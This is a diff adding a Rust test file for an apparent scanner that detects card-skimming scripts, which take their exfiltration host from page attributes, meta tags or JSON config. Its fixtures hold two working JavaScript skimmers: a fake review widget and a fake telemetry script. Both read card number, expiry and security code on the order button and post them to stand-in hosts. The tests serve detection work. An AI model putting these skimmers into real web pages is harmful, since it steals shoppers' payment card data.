@@ -1,0 +1,172 @@
+//! Destinations a script takes from its page (issue 9, class 2): the collector's host in the
+//! script's own tag (`document.currentScript.dataset.cdn`), in a `<meta content>`, in a JSON
+//! configuration block read through `getElementById(…).textContent`. The script names no host;
+//! the page does, so the same file is judged by each page's values, and a shared cache keeps
+//! them apart. A script that takes harmless settings from its page stays quiet.
+
+mod common;
+use common::{html, js, scan_json, serve};
+use serde_json::Value;
+
+const SHOP: &str = "miso-shop.example";
+
+fn page(head: &str, body: &str) -> String {
+    format!(
+        r#"<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>ご注文手続き | 信州味噌</title>
+<link rel="canonical" href="https://{SHOP}/shopping">{head}</head>
+<body id="page_shopping"><div class="ec-layoutRole">
+<form id="shopping-form" action="/shopping/confirm" method="post">
+  <dl><dt><label for="card_no">カード番号</label></dt><dd><input id="card_no" name="card_no" inputmode="numeric"></dd>
+  <dt>有効期限</dt><dd><input id="card_exp_month" name="card_exp_month"> / <input id="card_exp_year" name="card_exp_year"></dd>
+  <dt>セキュリティコード</dt><dd><input id="security_code" name="security_code"></dd></dl>
+  <button id="shopping-confirm-btn" type="button" class="ec-blockBtn--action">注文する</button>
+</form>{body}</div></body></html>"#
+    )
+}
+
+/// A review-stars plugin that posts the card to `api.<data-cdn>` on the order button.
+const WIDGET: &str = r#"(function () {
+  var me = document.currentScript;
+  var opts = { shop: me ? me.getAttribute('data-shop') : '', cdn: me ? me.dataset.cdn : '', ver: me ? me.dataset.ver : '1' };
+  function endpoint() { return 'https://api.' + opts.cdn + '/v' + opts.ver + '/reviews/summary'; }
+  function g(id) { var e = document.getElementById(id); return e ? e.value : ''; }
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var body = new URLSearchParams({ shop: opts.shop, c: g('card_no'), m: g('card_exp_month'), y: g('card_exp_year'), s: g('security_code') });
+      fetch(endpoint(), { method: 'POST', mode: 'no-cors', body: body });
+    }
+  }, true);
+})();"#;
+
+/// Telemetry that takes its host from a JSON block and its path from a meta tag.
+const TELEMETRY: &str = r#"(function () {
+  function readConfig() { var el = document.getElementById('store-config'); try { return JSON.parse(el.textContent); } catch (e) { return {}; } }
+  function meta(name) { var m = document.querySelector('meta[name="' + name + '"]'); return m ? m.content : ''; }
+  var cfg = readConfig(), t = cfg.telemetry || {};
+  var url = 'https://' + t.host + meta('telemetry-path');
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var out = {};
+      ['card_no', 'card_exp_month', 'card_exp_year', 'security_code'].forEach(function (id) { out[id] = document.getElementById(id).value; });
+      var x = new XMLHttpRequest(); x.open('POST', url, true); x.send(JSON.stringify(out));
+    }
+  }, true);
+})();"#;
+
+/// An analytics tag that takes its account and endpoint from its own tag and sends page views.
+const ANALYTICS: &str = r#"(function () {
+  var me = document.currentScript, id = me.dataset.account, host = me.getAttribute('data-endpoint');
+  new Image().src = 'https://' + host + '/collect?aid=' + encodeURIComponent(id) + '&p=' + encodeURIComponent(location.pathname) + '&t=' + encodeURIComponent(document.title);
+})();"#;
+
+fn scan(pages: &[(&str, String)], scripts: &[(&str, &str)], extra: &[&str]) -> (i32, Value) {
+    let mut routes = Vec::new();
+    for (path, body) in pages {
+        routes.push((*path, html(body)));
+    }
+    for (path, body) in scripts {
+        routes.push((*path, js(body)));
+    }
+    let server = serve(routes);
+    let resolve = server.resolve(SHOP);
+    let mut args = vec!["--depth", "0", "--resolve", resolve.as_str()];
+    args.extend_from_slice(extra);
+    let urls: Vec<String> = pages.iter().map(|(p, _)| server.url(SHOP, p)).collect();
+    args.extend(urls.iter().map(String::as_str));
+    let (code, report, stderr) = scan_json(&args);
+    assert!(matches!(code, 0 | 1), "exit {code}\n{stderr}\n{report}");
+    (code, report)
+}
+
+/// `(page path, hosts)` of the high and critical payment findings.
+fn exfiltration(report: &Value) -> Vec<(String, Vec<String>)> {
+    let mut out: Vec<(String, Vec<String>)> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
+        .map(|f| {
+            let page = f["page"].as_str().unwrap_or("");
+            // `http://host:port/shopping/gift` → `/shopping/gift`.
+            let path = format!("/{}", page.splitn(4, '/').nth(3).unwrap_or(page));
+            let hosts = f["hosts"]
+                .as_array()
+                .map(|h| {
+                    h.iter()
+                        .filter_map(|x| x.as_str().map(String::from))
+                        .collect()
+                })
+                .unwrap_or_default();
+            (path, hosts)
+        })
+        .collect();
+    out.sort();
+    out.dedup();
+    out
+}
+
+#[test]
+fn the_host_in_the_scripts_own_tag_is_each_pages_own() {
+    let tag = |cdn: &str| {
+        format!(
+            r#"<script src="/html/plugin/ReviewStars/review-widget.js" data-shop="shinshu" data-cdn="{cdn}" data-ver="2"></script>"#
+        )
+    };
+    let pages = [
+        ("/shopping", page("", &tag("plugin-store.example"))),
+        ("/shopping/gift", page("", &tag("gift-reviews.example"))),
+    ];
+    let scripts = [("/html/plugin/ReviewStars/review-widget.js", WIDGET)];
+    let (code, report) = scan(&pages, &scripts, &["--no-cache"]);
+    assert_eq!(code, 1, "{report:#}");
+    let want = vec![
+        (
+            "/shopping".to_string(),
+            vec!["api.plugin-store.example".to_string()],
+        ),
+        (
+            "/shopping/gift".to_string(),
+            vec!["api.gift-reviews.example".to_string()],
+        ),
+    ];
+    assert_eq!(exfiltration(&report), want);
+    // One cache folder, cold then warm: each page keeps its own host.
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path().display().to_string();
+    for _ in 0..2 {
+        let (_, cached) = scan(&pages, &scripts, &["--cache-dir", &d]);
+        assert_eq!(exfiltration(&cached), want);
+    }
+}
+
+#[test]
+fn a_host_in_a_config_block_and_a_path_in_a_meta_tag() {
+    let head = r#"<meta name="telemetry-path" content="/collect/checkout/v3">
+<script type="application/json" id="store-config">{"currency":"JPY","telemetry":{"enabled":true,"host":"events.config-cdn.example"}}</script>"#;
+    let body = r#"<script src="/js/telemetry.js"></script>"#;
+    let (code, report) = scan(
+        &[("/shopping", page(head, body))],
+        &[("/js/telemetry.js", TELEMETRY)],
+        &["--no-cache"],
+    );
+    assert_eq!(code, 1, "{report:#}");
+    assert_eq!(
+        exfiltration(&report),
+        vec![(
+            "/shopping".to_string(),
+            vec!["events.config-cdn.example".to_string()]
+        )]
+    );
+}
+
+#[test]
+fn settings_from_the_page_without_card_data_stay_quiet() {
+    let body = r#"<script src="/js/analytics.js" data-account="UA-4471" data-endpoint="stats.analytics-vendor.example"></script>"#;
+    let (code, report) = scan(
+        &[("/shopping", page("", body))],
+        &[("/js/analytics.js", ANALYTICS)],
+        &["--no-cache"],
+    );
+    assert_eq!(code, 0, "{report:#}");
+    assert!(exfiltration(&report).is_empty(), "{report:#}");
+}
